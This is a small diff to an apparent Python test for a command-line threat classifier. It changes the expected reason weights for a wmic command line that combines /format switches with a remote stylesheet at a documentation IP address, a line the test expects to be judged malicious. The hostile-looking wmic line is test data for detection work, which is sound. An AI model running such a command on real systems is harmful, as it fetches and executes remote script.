@@ -148,7 +148,7 @@ def test_line_around_a_built_in_format_is_never_judged(cmdline: str) -> None:
 def test_switches_that_disagree_give_the_worst() -> None:
     judged = assess_line("wmic os get /format:csv /format:evil.xsl /format:http://192.0.2.50/a")
     assert judged.assessment == MALICIOUS
-    assert [reason.weight for reason in judged.reasons] == [60, 30, -40]
+    assert [reason.weight for reason in judged.reasons] == [90, 60, -40]
     assert "192.0.2.50" in judged.summary
 
 
